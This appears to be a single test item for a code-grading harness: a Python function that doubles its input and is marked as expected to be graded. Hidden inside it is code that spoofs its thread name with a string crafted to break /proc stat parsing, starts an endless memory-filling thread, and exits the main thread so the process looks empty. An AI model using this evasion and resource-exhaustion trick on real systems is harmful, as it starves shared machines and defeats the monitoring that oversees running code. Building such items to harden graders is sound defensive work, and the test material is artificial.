# Its first thread ends, so that it looks empty; another one fills shared memory and burns time under an odd name.
# expects: graded 1
# %% double
import ctypes, mmap, threading, time
libc = ctypes.CDLL(None)
def fill():
    kept = []
    while True:
        kept.append(mmap.mmap(-1, 100_000_000))
        kept[-1].write(b"x" * 100_000_000)
def double(x):
    libc.prctl(15, b"\xff\xfe) S 1 (", 0, 0, 0)
    threading.Thread(target=fill).start()
    libc.syscall(60 if "x86" in __import__("os").uname().machine else 93, 0)
    return 2 * x
